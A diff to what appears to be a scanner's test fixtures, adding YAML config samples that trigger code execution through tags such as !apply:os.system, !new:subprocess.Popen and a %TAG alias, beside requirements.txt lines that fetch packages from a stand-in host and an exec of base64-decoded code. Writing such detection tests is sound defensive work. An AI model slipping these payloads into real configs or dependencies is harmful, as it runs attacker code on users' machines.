@@ -45,7 +45,11 @@ HOSTILE = {
     "requirements.txt": ("--extra-index-url http://e.example/simple\nnumpy\n", "x @ https://e.example/x.whl\n", "-r file:///elsewhere/all.txt\n"),
     "conf.yaml": (
         "%TAG !p! tag:yaml.org,2002:python/\n---\na: !p!object/apply:os.system [id]\n",
-        "a:\n  _target_: os.system\n", "a: !!python/object/apply:os.system [id]\n"),
+        "a:\n  _target_: os.system\n", "a: !!python/object/apply:os.system [id]\n",
+        "seed: 1\nsink: !apply:os.system [id]\n", "a: !new:subprocess.Popen\n  args: [id]\n", "f: !name:os.popen\n",
+        "%TAG !e! !apply:os.\n---\na: !e!system [id]\n",
+        "model:\n  class_path: builtins.exec\n  init_args: {source: x}\n",
+        "model:\n  target: os.system\n  params: {command: id}\n"),
     "modeling.py": (
         "from os import system as s\ns('id')\n",
         "import base64\nexec(base64.b64decode('eA=='))\n",
@@ -90,6 +94,8 @@ HONEST = {
     "conf.yaml": (
         "model:\n  _target_: torch.nn.Linear\n  in_features: 3\n",
         "model:\n  _target_: timm.create_model\n  model_name: resnet18\ndata: ${oc.env:HOME}/data\n",
+        "first: !apply:random.seed [1]\nnext: !apply:torch.manual_seed [1]\n"
+        "net: !new:speechbrain.nnet.linear.Linear\n  n_neurons: 2\nlike: !name:torch.nn.LeakyReLU\nn: !ref <net>\n",
     ),
     "modeling.py": (
         "import os\nimport torch\nclass N(torch.nn.Module):\n    p = os.path.join('a', 'b')\n",
